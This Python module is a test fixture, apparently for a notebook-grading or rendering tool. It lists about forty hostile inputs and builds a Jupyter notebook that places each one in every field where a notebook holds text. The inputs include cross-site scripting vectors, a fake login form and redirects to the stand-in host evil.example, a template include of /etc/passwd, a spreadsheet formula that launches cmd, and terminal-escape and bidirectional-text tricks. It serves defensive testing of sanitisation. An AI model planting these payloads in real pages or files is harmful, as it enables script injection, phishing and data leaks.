"""What a hostile candidate may put into a notebook, a name or an answer to act on its reader."""

from __future__ import annotations

import json
from typing import Any, Final

PAYLOADS: Final = {
    "script": "<script>alert(1)</script>",
    "closed script": "</script><script>alert(1)</script>",
    "script in a comment": "<!--<script>--><script>alert(1)//--></script>",
    "image handler": "<img src=x onerror=alert(1)>",
    "vector handler": "<svg/onload=alert(1)>",
    "vector with a script": "<svg><script href='https://evil.example/x.js'/></svg>",
    "animated link": "<svg><a><animate attributeName=href values=javascript:alert(1) /></a></svg>",
    "foreign object": "<svg><foreignObject><iframe src=//evil.example></foreignObject></svg>",
    "style breakout": "</style><style>@import 'https://evil.example/x.css';</style>",
    "title breakout": "</title><body onload=alert(1)>",
    "textarea breakout": "</textarea><script>alert(1)</script>",
    "attribute breakout": '" onmouseover=alert(1) x="',
    "single quotes": "' autofocus onfocus=alert(1) x='",
    "javascript link": "<a href=javascript:alert(1)>x</a>",
    "javascript with a tab": "<a href='java\tscript:alert(1)'>x</a>",
    "data page": "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "frame": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "object": "<object data=https://evil.example/x.swf></object>",
    "embed": "<embed src=https://evil.example/x>",
    "form": "<form action=https://evil.example><input name=a><button>Log in</button></form>",
    "refresh": "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "base": "<base href=https://evil.example/>",
    "stylesheet": "<link rel=stylesheet href=https://evil.example/x.css>",
    "tracking picture": "<img src=https://evil.example/seen.png width=1>",
    "style address": "<p style=\"background:url('https://evil.example/x')\">",
    "template": "{{ 7*7 }}{% include '/etc/passwd' %}{# x #}",
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "noscript": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "character data": "]]><img src=x onerror=alert(1)><![CDATA[",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt;&#60;b&#62;",
    "half a character": "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "markdown link": "[click](javascript:alert(1)) ![x](https://evil.example/x.png)",
    "address alone": "https://evil.example/login www.evil.example mailto:a@evil.example",
    "terminal": "\x1b[2J\x1b]8;;https://evil.example\x07click\x1b]8;;\x07\x9b31m",
    "right to left": "user\u202e\u2066 // admin \u2069\u2066",
    "invisible": "pass\u200bword\ufeff\u00ad\U000e0041",
    "formula": '=HYPERLINK("https://evil.example","click")',
    "command formula": "@SUM(1+1)*cmd|' /C calc'!A0",
    "rich markup": "[bold red]x[/] [link=https://evil.example]y[/link]",
    "names in scripts": "Ζωή 日本語 عربى हिन्दी 🧑🏽‍🚀 Ǆ",
}
"""By what they try."""

EVERYTHING: Final = " ".join(PAYLOADS.values())


def hostile_notebook() -> bytes:
    """Return a notebook that has every payload wherever a notebook can hold a text."""
    cells: list[dict[str, Any]] = []
    for name, payload in PAYLOADS.items():
        cells.append({"cell_type": "markdown", "metadata": {"x": payload}, "source": payload})
        cells.append(
            {
                "cell_type": "code",
                "execution_count": 1,
                "metadata": {payload: payload},
                "source": f"# {name}\nx = {payload!r}\n# {payload}\nrefunded_amount",
                "outputs": [
                    _shown({"text/html": payload, "application/javascript": payload}),
                    _shown({"image/svg+xml": f"<svg>{payload}</svg>"}),
                    {
                        **_shown({"image/png": "iVBORw0KGgo="}),
                        "metadata": {"image/png": {"width": f'1" onload="{payload}'}},
                    },
                    {"output_type": "stream", "name": "stdout", "text": payload},
                ],
                "attachments": {payload: {"image/png": payload}},
            }
        )
    metadata = {"kernelspec": {"name": "python3", "display_name": EVERYTHING, "language": "python"}}
    document = {"cells": cells, "metadata": metadata, "nbformat": 4, "nbformat_minor": 5}
    return json.dumps(document).encode()


def _shown(data: dict[str, str]) -> dict[str, Any]:
    return {"output_type": "display_data", "data": data, "metadata": {}}
